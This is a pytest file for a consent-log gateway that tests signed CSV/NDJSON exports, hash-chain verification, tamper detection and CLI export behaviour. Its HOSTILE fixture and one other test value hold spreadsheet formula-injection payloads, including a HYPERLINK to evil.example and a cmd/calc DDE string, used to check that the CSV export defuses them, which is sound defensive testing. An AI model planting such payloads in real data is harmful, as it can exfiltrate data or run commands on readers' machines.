"""Consent-log export and verification, as an admin and an auditor use them: signed CSV and
NDJSON downloads (`/_consent/admin/consents.csv|ndjson`, `consents.csv.sig`), the chain
check (`/_consent/admin/verify`), and the CLI's `export` / `verify-export` writing the same
bytes — including 100,000 records streamed in bounded memory, measured."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from gateway.adapters.store.sqlite import SQLiteStore
from gateway.core.consent.export import (
    EXPORT_COLUMNS,
    split_ndjson_trailer,
    verify_export,
)
from gateway.core.consent.record import FIELDS, GENESIS_HASH, ConsentDraft, seal
from gateway.services.wiring import Services
from gateway.web.admin import token_hash
from tests.conftest import EXAMPLE_CONFIG, SECRET, FrozenClock, LiveServer, gateway_env
from tests.web.test_collect import make_gateway, visitor

TOKEN = "an-admin-token-for-the-export-tests"
ADMIN = "/_consent/admin"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
NOON = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
CONSENT_A = "A" * 22
CONSENT_B = "B" * 22
# Values a spreadsheet would run, in fields that might one day carry visitor input.
HOSTILE = {"page": '=HYPERLINK("http://evil.example/?"&A1,"click")',
           "user_agent": "+cmd|' /C calc'!A0", "language": "@SUM(1+1)",
           "banner_hash": "-2+3", "site": "\tshop"}


def draft(**changes: Any) -> ConsentDraft:
    base = ConsentDraft(
        recorded_at=NOON, consent_id=CONSENT_A, site="demo", action="accept_all",
        source="banner", granted=("necessary", "preferences", "analytics", "marketing"),
        denied=(), revision=1, banner_hash="b" * 64, language="en", ip="203.0.113.0",
        user_agent="Firefox / Linux", page="/", gpc=False,
    )
    return replace(base, **changes)


@pytest.fixture
async def gateway(tmp_path: Path, clock: FrozenClock) -> AsyncIterator[Services]:
    gw = make_gateway(tmp_path, clock, GATEWAY_ADMIN_TOKEN_HASHES=token_hash(TOKEN))
    await gw.start()
    yield gw
    await gw.stop()


@pytest.fixture
async def admin(gateway: Services) -> AsyncIterator[httpx.AsyncClient]:
    async with visitor(gateway) as client:
        client.headers.update(AUTH)
        yield client


async def log(gateway: Services, *drafts: ConsentDraft) -> None:
    for one in drafts:
        await gateway.store.append_consent(one)


async def three_decisions(gateway: Services) -> None:
    await log(gateway,
              draft(recorded_at=NOON - timedelta(days=2)),
              draft(recorded_at=NOON - timedelta(days=1), consent_id=CONSENT_B,
                    action="reject_all", granted=("necessary",),
                    denied=("preferences", "analytics", "marketing")),
              draft(recorded_at=NOON, action="withdraw", source="preferences",
                    granted=("necessary",), denied=("preferences", "analytics", "marketing")))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def ndjson_rows(body: bytes) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    data, signature = split_ndjson_trailer(body)
    assert signature is not None
    return [json.loads(line) for line in data.decode("utf-8").splitlines()], signature


async def tombstone(gateway: Services, seq: int) -> None:
    """What retention does, done by hand: blank a record, keep its place and links."""
    await asyncio.to_thread(_tombstone, gateway.config.storage.path, seq)


def _tombstone(path: str, seq: int) -> None:
    conn = sqlite3.connect(path)
    blanks = ("recorded_at = '', consent_id = '', site = '', action = '', source = '', "
              "granted = '[]', denied = '[]', revision = 0, banner_hash = '', language = '', "
              "ip = '', user_agent = '', page = '', gpc = 0")
    conn.execute(f"UPDATE consent_log SET tombstone = 1, {blanks} WHERE seq = ?", (seq,))
    conn.commit()
    conn.close()


async def tamper_live(path: str, sql: str) -> None:
    """Off the event loop: the gateway's writer may be mid-transaction, waiting for it."""
    await asyncio.to_thread(tamper, path, sql)


def tamper(path: str | Path, sql: str) -> None:
    conn = sqlite3.connect(path)
    # An attacker with file access can drop the guard; the chain still tells.
    conn.execute("DROP TRIGGER consent_log_only_tombstones")
    conn.execute(sql)
    conn.commit()
    conn.close()


def run_cli(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **gateway_env(folder)}
    return subprocess.run(
        [sys.executable, "-m", "gateway", *args, "--config", str(EXAMPLE_CONFIG)],
        env=env, capture_output=True, text=True, timeout=120, cwd=folder,
    )


def flip_one_byte(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1:]


# ------------------------------------------------------------------------- access


@pytest.mark.parametrize("path", ["consents.csv", "consents.ndjson", "consents.csv.sig",
                                  "verify"])
async def test_every_export_route_needs_the_admin_token(gateway: Services, path: str) -> None:
    async with visitor(gateway) as client:
        missing = await client.get(f"{ADMIN}/{path}")
        wrong = await client.get(f"{ADMIN}/{path}", headers={"Authorization": "Bearer nope"})
    assert (missing.status_code, wrong.status_code) == (401, 401)
    assert "signature" not in missing.text


# ------------------------------------------------------------------------- formats


async def test_the_csv_export_parses_with_dictreader_and_holds_every_field(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    response = await admin.get(f"{ADMIN}/consents.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    rows = csv_rows(response.text)
    assert tuple(rows[0]) == EXPORT_COLUMNS == (*FIELDS, "tombstone")
    assert [(r["seq"], r["action"], r["tombstone"]) for r in rows] == [
        ("1", "accept_all", "false"), ("2", "reject_all", "false"), ("3", "withdraw", "false")]
    assert rows[1]["granted"] == "necessary"
    assert rows[1]["denied"] == "preferences analytics marketing"
    assert rows[0]["recorded_at"] == "2026-11-19T12:00:00.000000Z"
    assert rows[2]["prev_hash"] == rows[1]["hash"]


async def test_the_ndjson_export_parses_line_by_line_and_ends_with_its_signature(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    response = await admin.get(f"{ADMIN}/consents.ndjson")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert [line.get("seq") for line in lines] == [1, 2, 3, None]
    assert list(lines[0]) == list(EXPORT_COLUMNS)
    assert lines[1]["granted"] == ["necessary"] and lines[1]["gpc"] is False
    signature = lines[-1]["signature"]
    assert signature["algorithm"] == "HMAC-SHA256"
    assert signature["records"] == 3 and signature["complete"] is True
    assert signature["head"] == {"seq": 3, "hash": lines[2]["hash"]}


async def test_the_export_names_the_chain_head_it_covers_in_a_header(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    head_seq, head_hash = await gateway.store.chain_head()
    for fmt in ("csv", "ndjson"):
        response = await admin.get(f"{ADMIN}/consents.{fmt}")
        assert response.headers["x-consent-chain-head"] == f"{head_seq} {head_hash}"
        assert f'filename="consent-log-{head_seq}.{fmt}"' in \
            response.headers["content-disposition"]


async def test_an_empty_log_exports_a_header_and_a_signature(
    admin: httpx.AsyncClient,
) -> None:
    exported = await admin.get(f"{ADMIN}/consents.csv")
    assert exported.text == ",".join(EXPORT_COLUMNS) + "\r\n"
    assert exported.headers["x-consent-chain-head"] == f"0 {GENESIS_HASH}"
    rows, signature = ndjson_rows((await admin.get(f"{ADMIN}/consents.ndjson")).content)
    assert rows == [] and signature["records"] == 0


async def test_an_export_stops_at_the_head_it_started_from(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    response = await admin.get(f"{ADMIN}/consents.ndjson", params={"head": "2"})
    rows, signature = ndjson_rows(response.content)
    assert [row["seq"] for row in rows] == [1, 2]
    assert response.headers["x-consent-chain-head"] == f"2 {rows[1]['hash']}"
    assert signature["head"] == {"seq": 2, "hash": rows[1]["hash"]}


async def test_a_head_past_the_chain_head_is_a_bad_request(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    response = await admin.get(f"{ADMIN}/consents.csv", params={"head": "4"})
    assert response.status_code == 400
    assert response.json()["field"] == "head"


# ------------------------------------------------------------------------- filters


async def test_filters_select_by_site_consent_id_and_action(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    await log(gateway, draft(site="shop"))

    async def seqs(**params: str) -> list[str]:
        response = await admin.get(f"{ADMIN}/consents.csv", params=params)
        assert response.status_code == 200, response.text
        return [row["seq"] for row in csv_rows(response.text)]

    assert await seqs(site="shop") == ["4"]
    assert await seqs(consent_id=CONSENT_B) == ["2"]
    assert await seqs(action="withdraw") == ["3"]
    assert await seqs(site="demo", consent_id=CONSENT_A, action="accept_all") == ["1"]


async def test_since_is_inclusive_and_until_exclusive_for_dates_and_times(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)  # 19, 20 and 21 November at noon (UTC)

    async def seqs(**params: str) -> list[int]:
        rows, _ = ndjson_rows((await admin.get(f"{ADMIN}/consents.ndjson", params=params)).content)
        return [row["seq"] for row in rows]

    assert await seqs(since="2026-11-20") == [2, 3]
    assert await seqs(until="2026-11-20") == [1]
    assert await seqs(since="2026-11-20T12:00:00Z", until="2026-11-21T12:00:00Z") == [2]
    assert await seqs(since="2026-11-20T13:00:00+01:00") == [2, 3]  # 12:00 UTC
    assert await seqs(since="", site="") == [1, 2, 3]  # empty form fields: no filter


@pytest.mark.parametrize(("params", "field"), [
    ({"since": "yesterday"}, "since"),
    ({"until": "2026-13-01"}, "until"),
    ({"since": "2026-11-21", "until": "2026-11-21"}, "until"),
    ({"site": "Not A Site!"}, "site"),
    ({"consent_id": "too-short"}, "consent_id"),
    ({"action": "maybe"}, "action"),
    ({"head": "-1"}, "head"),
    ({"sinse": "2026-11-21"}, "sinse"),
    ({"since": "2" * 41}, "since"),
])
async def test_a_bad_parameter_is_a_bad_request_naming_the_field(
    admin: httpx.AsyncClient, params: dict[str, str], field: str
) -> None:
    for path in ("consents.csv", "consents.ndjson", "consents.csv.sig"):
        response = await admin.get(f"{ADMIN}/{path}", params=params)
        assert response.status_code == 400, (path, response.text)
        assert response.json()["field"] == field


async def test_a_parameter_given_twice_is_refused(admin: httpx.AsyncClient) -> None:
    response = await admin.get(f"{ADMIN}/consents.csv?site=demo&site=shop")
    assert response.status_code == 400
    assert response.json()["field"] == "site"


async def test_tombstones_appear_only_in_a_complete_export(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    await tombstone(gateway, 1)
    complete = csv_rows((await admin.get(f"{ADMIN}/consents.csv")).text)
    assert [(r["seq"], r["tombstone"], r["consent_id"]) for r in complete] == [
        ("1", "true", ""), ("2", "false", CONSENT_B), ("3", "false", CONSENT_A)]
    assert complete[0]["hash"] and complete[1]["prev_hash"] == complete[0]["hash"]
    rows, signature = ndjson_rows(
        (await admin.get(f"{ADMIN}/consents.ndjson", params={"site": "demo"})).content)
    assert [row["seq"] for row in rows] == [2, 3]
    assert signature["complete"] is False and signature["filters"] == {"site": "demo"}


# ------------------------------------------------------------------------- signatures


async def test_a_signed_ndjson_export_verifies_and_a_one_byte_edit_does_not(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    data, signature = split_ndjson_trailer((await admin.get(f"{ADMIN}/consents.ndjson")).content)
    assert signature is not None
    keys = gateway.config.server.secret_keys
    assert verify_export(data, signature, keys)
    for at in (0, len(data) // 2, len(data) - 1):
        assert not verify_export(flip_one_byte(data, at), signature, keys)
    assert not verify_export(data, {**signature, "records": 2}, keys)


async def test_the_csv_signature_covers_the_csv_of_the_same_query_and_head(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    exported = await admin.get(f"{ADMIN}/consents.csv", params={"site": "demo"})
    await log(gateway, draft())  # appended between the download and its signature
    head = exported.headers["x-consent-chain-head"].split()[0]
    signed = await admin.get(f"{ADMIN}/consents.csv.sig", params={"site": "demo", "head": head})
    assert signed.status_code == 200
    signature = signed.json()
    keys = gateway.config.server.secret_keys
    assert signature["format"] == "csv" and signature["head"]["seq"] == 3
    assert verify_export(exported.content, signature, keys)
    assert not verify_export(flip_one_byte(exported.content, 40), signature, keys)
    link = exported.headers["link"]
    assert link == f'<{ADMIN}/consents.csv.sig?site=demo&head=3>; rel="signature"'


# ------------------------------------------------------------------------- hostile input


async def test_formula_like_values_are_defused_in_csv_and_exact_in_ndjson(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await log(gateway, draft(**HOSTILE))
    async with visitor(gateway) as browser:
        decided = await browser.post("/_consent/consent", json={
            "action": "accept_all", "page": '/=HYPERLINK("http://evil.example","x")'})
        assert decided.status_code == 200
    rows = csv_rows((await admin.get(f"{ADMIN}/consents.csv")).text)
    for name, value in HOSTILE.items():
        assert rows[0][name] == "'" + value
    assert rows[1]["page"] == '/=HYPERLINK("http://evil.example","x")'  # a path is no formula
    lines, _ = ndjson_rows((await admin.get(f"{ADMIN}/consents.ndjson")).content)
    assert {name: lines[0][name] for name in HOSTILE} == HOSTILE


# ------------------------------------------------------------------------- verify


async def test_verify_reports_an_intact_chain_with_its_head(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    await tombstone(gateway, 1)
    response = await admin.get(f"{ADMIN}/verify")
    head_seq, head_hash = await gateway.store.chain_head()
    assert response.status_code == 200
    assert response.json() == {"ok": True, "records": 3, "tombstones": 1,
                               "head": {"seq": head_seq, "hash": head_hash}, "resumed_from": 0}


async def test_verify_fails_naming_the_seq_of_a_changed_row(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    await tamper_live(gateway.config.storage.path,
           "UPDATE consent_log SET granted = '[\"necessary\", \"marketing\"]' WHERE seq = 2")
    response = await admin.get(f"{ADMIN}/verify")
    assert response.status_code == 409
    body = response.json()
    assert body["ok"] is False and body["seq"] == 2
    assert "hash" in body["reason"]


async def test_verify_notices_a_rehashed_edit_of_the_newest_record(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    """Nothing follows the newest record to vouch for it, except the chain head."""
    await three_decisions(gateway)
    forged = seal(draft(recorded_at=NOON, action="accept_all"), seq=3,
                  prev_hash=(await gateway.store.consent_history(CONSENT_B))[0].hash)
    await tamper_live(gateway.config.storage.path,
           f"UPDATE consent_log SET action = 'accept_all', hash = '{forged.hash}', "
           "granted = '[\"necessary\", \"preferences\", \"analytics\", \"marketing\"]', "
           f"denied = '[]', source = 'banner' WHERE seq = 3")
    response = await admin.get(f"{ADMIN}/verify")
    assert response.status_code == 409
    assert response.json()["seq"] == 3


async def test_verify_resumes_at_its_checkpoint_and_full_re_hashes_everything(
    gateway: Services, admin: httpx.AsyncClient
) -> None:
    await three_decisions(gateway)
    first = (await admin.get(f"{ADMIN}/verify")).json()
    await tamper_live(gateway.config.storage.path,
           "UPDATE consent_log SET granted = '[\"necessary\", \"marketing\"]' WHERE seq = 2")
    routine = await admin.get(f"{ADMIN}/verify")
    full = await admin.get(f"{ADMIN}/verify", params={"full": "1"})
    assert (first["resumed_from"], first["records"]) == (0, 3)
    assert routine.status_code == 200 and routine.json()["resumed_from"] == 3
    assert full.status_code == 409 and full.json()["seq"] == 2
    assert (await admin.get(f"{ADMIN}/verify", params={"full": "yes"})).status_code == 400


# ------------------------------------------------------------------------- the CLI


async def test_the_cli_export_writes_the_same_bytes_and_signature_as_the_download(
    gateway: Services, admin: httpx.AsyncClient, tmp_path: Path
) -> None:
    await three_decisions(gateway)
    for fmt in ("csv", "ndjson"):
        downloaded = await admin.get(f"{ADMIN}/consents.{fmt}", params={"since": "2026-11-20"})
        done = await asyncio.to_thread(run_cli, tmp_path, "export", "--format", fmt,
                                       "--since", "2026-11-20", "--output", f"out.{fmt}")
        assert done.returncode == 0, done.stderr
        assert (tmp_path / f"out.{fmt}").read_bytes() == downloaded.content
        assert "exported 2 entries" in done.stderr
    signed = await admin.get(f"{ADMIN}/consents.csv.sig", params={"since": "2026-11-20"})
    assert json.loads((tmp_path / "out.csv.sig").read_text()) == signed.json()


def test_verify_export_passes_a_signed_file_and_fails_on_a_one_byte_edit(
    tmp_path: Path,
) -> None:
    asyncio.run(seed_decisions(tmp_path, 5))
    for fmt in ("csv", "ndjson"):
        exported = run_cli(tmp_path, "export", "--format", fmt, "--output", f"log.{fmt}")
        assert exported.returncode == 0, exported.stderr
        ok = run_cli(tmp_path, "verify-export", f"log.{fmt}")
        assert ok.returncode == 0, ok.stdout + ok.stderr
        assert ok.stdout.startswith("OK: 5 entries up to seq 5")
        path = tmp_path / f"log.{fmt}"
        path.write_bytes(flip_one_byte(path.read_bytes(), 300))
        broken = run_cli(tmp_path, "verify-export", f"log.{fmt}")
        assert broken.returncode == 1
        assert "FAILED: the data does not match the signature's sha256" in broken.stdout


def test_verify_export_fails_without_the_servers_key(tmp_path: Path) -> None:
    asyncio.run(seed_decisions(tmp_path, 2))
    assert run_cli(tmp_path, "export", "--format", "ndjson", "--output", "log.ndjson") \
        .returncode == 0
    env = {**os.environ, **gateway_env(tmp_path), "GATEWAY_SERVER_SECRET_KEYS": "x" * 40}
    other = subprocess.run(
        [sys.executable, "-m", "gateway", "verify-export", "log.ndjson",
         "--config", str(EXAMPLE_CONFIG)],
        env=env, capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert other.returncode == 1
    assert "hmac does not match" in other.stdout


def test_an_export_of_a_tampered_log_fails_verification_naming_the_seq(tmp_path: Path) -> None:
    """The server signs what it holds; the NDJSON's own chain shows the edit."""
    asyncio.run(seed_decisions(tmp_path, 4))
    tamper(tmp_path / "gateway.sqlite3", "UPDATE consent_log SET page = '/x' WHERE seq = 3")
    assert run_cli(tmp_path, "export", "--format", "ndjson", "--output", "log.ndjson") \
        .returncode == 0
    broken = run_cli(tmp_path, "verify-export", "log.ndjson")
    assert broken.returncode == 1
    assert broken.stdout.startswith("FAILED: seq 3: hash does not match")


def test_the_cli_names_a_bad_option(tmp_path: Path) -> None:
    done = run_cli(tmp_path, "export", "--format", "ndjson", "--since", "soon")
    assert done.returncode == 2
    assert done.stderr.startswith("--since: since must be a date")
    csv_to_stdout = run_cli(tmp_path, "export", "--format", "csv")
    assert csv_to_stdout.returncode == 2 and "--output" in csv_to_stdout.stderr


def test_the_cli_shows_progress_only_when_stderr_is_a_terminal(tmp_path: Path) -> None:
    asyncio.run(seed_decisions(tmp_path, 3))
    plain = run_cli(tmp_path, "export", "--format", "ndjson", "--output", "a.ndjson")
    assert "\r" not in plain.stderr and plain.stderr.startswith("exported 3 entries")
    controller, terminal = pty.openpty()
    env = {**os.environ, **gateway_env(tmp_path)}
    with subprocess.Popen(
        [sys.executable, "-m", "gateway", "export", "--format", "ndjson", "--output",
         "b.ndjson", "--config", str(EXAMPLE_CONFIG)],
        env=env, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=terminal,
    ) as process:
        os.close(terminal)
        seen = read_all(controller)
        assert process.wait(timeout=60) == 0
    assert "\rexporting: 3 entries, seq 3 of 3 (100%)" in seen
    assert (tmp_path / "a.ndjson").read_bytes() == (tmp_path / "b.ndjson").read_bytes()


def read_all(fd: int) -> str:
    chunks = []
    while True:
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the other end closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(fd)
    return b"".join(chunks).decode("utf-8", "replace")


async def seed_decisions(folder: Path, count: int) -> None:
    store = SQLiteStore(folder / "gateway.sqlite3")
    await store.open()
    try:
        for i in range(count):
            await store.append_consent(draft(recorded_at=NOON + timedelta(minutes=i),
                                             page=f"/page/{i}"))
    finally:
        await store.close()


# ------------------------------------------------------------------------- 100,000 records

BIG = 100_000
SMALL = 10_000


def seed_big_log(path: Path, count: int) -> None:
    """`count` records with a valid chain, inserted directly (seal() per record is ~70 µs;
    this computes the same canonical hash without the dataclass round trips)."""
    asyncio.run(_create_schema(path))
    start = datetime.now(UTC) - timedelta(days=7)  # recent: retention leaves them alone
    prev, rows = GENESIS_HASH, []
    for seq in range(1, count + 1):
        row: dict[str, Any] = {
            "seq": seq, "recorded_at": (start + timedelta(milliseconds=seq)).strftime(
                "%Y-%m-%dT%H:%M:%S.%fZ"),
            "consent_id": f"{seq:022d}", "site": "demo",
            "action": ("accept_all", "reject_all", "custom")[seq % 3],
            "source": "banner", "granted": ["necessary", "analytics"],
            "denied": ["preferences", "marketing"], "revision": 1, "banner_hash": "b" * 64,
            "language": "en", "ip": "203.0.113.0", "user_agent": "Firefox / Linux",
            "page": f"/products/{seq}", "gpc": False, "prev_hash": prev,
        }
        canonical = json.dumps(row, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
        row["hash"] = prev = hashlib.sha256(canonical.encode("ascii")).hexdigest()
        rows.append(row)
    # Rows as written before `mode` and `host` existed: empty, and not hashed.
    fields = {name: rows[0].get(name, "") for name in ConsentDraft.__dataclass_fields__}
    fields.update(recorded_at=start + timedelta(milliseconds=1),
                  granted=("necessary", "analytics"), denied=("preferences", "marketing"))
    first = seal(ConsentDraft(**fields), seq=1, prev_hash=GENESIS_HASH)
    assert first.hash == rows[0]["hash"], "the seeding shortcut must hash as seal() does"
    conn = sqlite3.connect(path)
    conn.executemany(
        f"INSERT INTO consent_log ({', '.join(FIELDS)}) VALUES ({', '.join('?' * len(FIELDS))})",
        ([json.dumps(r[f]) if f in ("granted", "denied") else r.get(f, "") for f in FIELDS]
         for r in rows))
    conn.execute("INSERT OR REPLACE INTO consent_chain_head (id, seq, hash) VALUES (1, ?, ?)",
                 (count, prev))
    conn.commit()
    conn.close()


async def _create_schema(path: Path) -> None:
    store = SQLiteStore(path)
    await store.open()
    await store.close()


@pytest.fixture(scope="module")
def big_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("big-log")
    began = time.perf_counter()
    seed_big_log(folder / "gateway.sqlite3", BIG)
    print(f"\nseeded {BIG:,} consent records in {time.perf_counter() - began:.1f} s")
    return folder


# The child reports its own high-water mark: rusage of a child would carry the pytest
# process's peak over, since Linux keeps `ru_maxrss` across the fork and exec.
_EXPORT_REPORTING_PEAK = """
import sys
from gateway.cli import main
code = main(sys.argv[1:])
status = open("/proc/self/status").read().splitlines()
print(next(line for line in status if line.startswith("VmHWM:")).split()[1])
sys.exit(code)
"""


def cli_export_peak(folder: Path, head: int, output: str) -> tuple[int, float]:
    """Peak RSS (KiB) and seconds of one `consent-gateway export` in a child process."""
    env = {**os.environ, **gateway_env(folder)}
    began = time.perf_counter()
    done = subprocess.run(
        [sys.executable, "-c", _EXPORT_REPORTING_PEAK, "export", "--format", "csv",
         "--head", str(head), "--output", output, "--config", str(EXAMPLE_CONFIG)],
        env=env, cwd=folder, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return int(done.stdout.split()[-1]), time.perf_counter() - began


def assert_flat(small: int, big: int, small_bytes: int, big_bytes: int) -> None:
    """Holding the export in memory would add at least its size; streaming adds ~nothing."""
    assert big < small * 1.5, (small, big)
    assert (big - small) * 1024 < (big_bytes - small_bytes) / 4, (small, big)


def test_exporting_100000_records_from_the_cli_streams_in_bounded_memory(
    big_log: Path,
) -> None:
    small_peak, small_s = cli_export_peak(big_log, SMALL, "small.csv")
    big_peak, big_s = cli_export_peak(big_log, BIG, "big.csv")
    small_bytes = (big_log / "small.csv").stat().st_size
    big_bytes = (big_log / "big.csv").stat().st_size
    print(f"\nCLI export peak RSS: {SMALL:,} records {small_peak / 1024:.1f} MiB "
          f"({small_bytes / 2**20:.1f} MiB CSV, {small_s:.1f} s); {BIG:,} records "
          f"{big_peak / 1024:.1f} MiB ({big_bytes / 2**20:.1f} MiB CSV, {big_s:.1f} s)")
    assert_flat(small_peak, big_peak, small_bytes, big_bytes)
    with (big_log / "big.csv").open(newline="", encoding="utf-8") as handle:
        assert sum(1 for _ in csv.DictReader(handle)) == BIG
    signature = json.loads((big_log / "big.csv.sig").read_text())
    assert signature["records"] == BIG and signature["head"]["seq"] == BIG


def server_peak_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    line = next(line for line in status.splitlines() if line.startswith("VmHWM:"))
    return int(line.split()[1])


def stream_export(server: LiveServer, head: int) -> tuple[int, int, float]:
    """(bytes, lines, seconds) of an NDJSON download read chunk by chunk, never held whole."""
    began, size, lines, digest = time.perf_counter(), 0, 0, hashlib.sha256()
    with httpx.stream("GET", f"{server.url}{ADMIN}/consents.ndjson", params={"head": head},
                      headers=AUTH, timeout=60) as response:
        assert response.status_code == 200
        for chunk in response.iter_bytes():
            size += len(chunk)
            lines += chunk.count(b"\n")
            digest.update(chunk)
    return size, lines, time.perf_counter() - began


def test_exporting_100000_records_over_http_streams_in_bounded_memory(big_log: Path) -> None:
    # Without the start-up purge, whose own peak (~27 MiB over 100,000 records) would land at
    # a random moment; and after one small export, so lazy first-request work is done.
    server = LiveServer(big_log, "--workers", "1", env={
        "GATEWAY_ADMIN_TOKEN_HASHES": token_hash(TOKEN), "GATEWAY_RETENTION_ENABLED": "false",
    }).start()
    try:
        assert server.process is not None
        stream_export(server, 100)
        started_peak = server_peak_kib(server.process.pid)
        small_bytes, small_lines, small_s = stream_export(server, SMALL)
        small_peak = server_peak_kib(server.process.pid)
        big_bytes, big_lines, big_s = stream_export(server, BIG)
        big_peak = server_peak_kib(server.process.pid)
    finally:
        server.stop()
    print(f"\nserver peak RSS: {started_peak / 1024:.1f} MiB after a first small export; after "
          f"streaming NDJSON of {SMALL:,} records "
          f"{small_peak / 1024:.1f} MiB ({small_bytes / 2**20:.1f} MiB, {small_s:.1f} s); "
          f"{BIG:,} records {big_peak / 1024:.1f} MiB ({big_bytes / 2**20:.1f} MiB, "
          f"{big_s:.1f} s)")
    assert (small_lines, big_lines) == (SMALL + 1, BIG + 1)  # + the signature trailer
    assert_flat(small_peak, big_peak, small_bytes, big_bytes)


def test_the_servers_secret_key_is_never_in_an_export_or_its_signature(tmp_path: Path) -> None:
    asyncio.run(seed_decisions(tmp_path, 1))
    assert run_cli(tmp_path, "export", "--format", "csv", "--output", "x.csv").returncode == 0
    signature = (tmp_path / "x.csv.sig").read_text()
    assert SECRET not in signature and SECRET not in (tmp_path / "x.csv").read_text()

